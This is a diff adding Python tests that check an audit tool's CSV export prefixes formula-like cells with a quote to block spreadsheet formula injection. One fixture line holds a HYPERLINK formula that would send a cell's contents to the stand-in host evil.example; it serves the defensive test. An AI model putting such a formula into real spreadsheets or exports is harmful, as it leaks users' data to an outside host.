@@ -220,3 +220,36 @@ def test_unknown_run_unknown_user_and_bad_format_are_usage_errors(investigated: 
     assert bad.code == 2 and "unknown audit format 'xml'" in bad.err and "jsonl, csv" in bad.err
     for done in (unknown, stranger, bad):
         assert "Traceback" not in done.err and done.out == ""
+
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_prefixes_a_cell_a_spreadsheet_would_run_as_a_formula() -> None:
+    """CSV injection: any text cell starting with = + - @, tab or CR (an actor's id, a run id)
+    gets a leading ' (OWASP), in every column; numbers, nulls and ordinary text are untouched."""
+    from warden.investigate.audit import CSV_COLUMNS, write_csv
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    record: dict[str, Any] = {c: f"plain-{c}" for c in CSV_COLUMNS}
+    record.update(seq=7, chain_no=None, actor=formula, tenant="@acme", event="-event", run_id="+run")
+    record.update(root_run_id="\troot", event_key="\rkey", payload={"text": formula})
+    out = io.StringIO()
+    assert write_csv([record], out) == 1
+    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [v for v in row.values() if v[:1] in FORMULA_TRIGGERS] == []
+    assert (row["actor"], row["tenant"], row["event"], row["run_id"]) == (
+        "'" + formula,
+        "'@acme",
+        "'-event",
+        "'+run",
+    )
+    assert (row["root_run_id"], row["event_key"]) == ("'\troot", "'\rkey")
+    assert (row["seq"], row["chain_no"], row["hash"]) == ("7", "", "plain-hash")
+    assert json.loads(row["payload"]) == {"text": formula}  # JSON starts with {: not a formula
+
+
+def test_the_cli_csv_export_has_no_formula_cell(investigated: Investigated) -> None:
+    done = _audit(investigated, investigated.second, "--format", "csv")
+    cells = [c for row in csv.reader(io.StringIO(done.out)) for c in row]
+    assert cells and [c for c in cells if c[:1] in FORMULA_TRIGGERS] == []
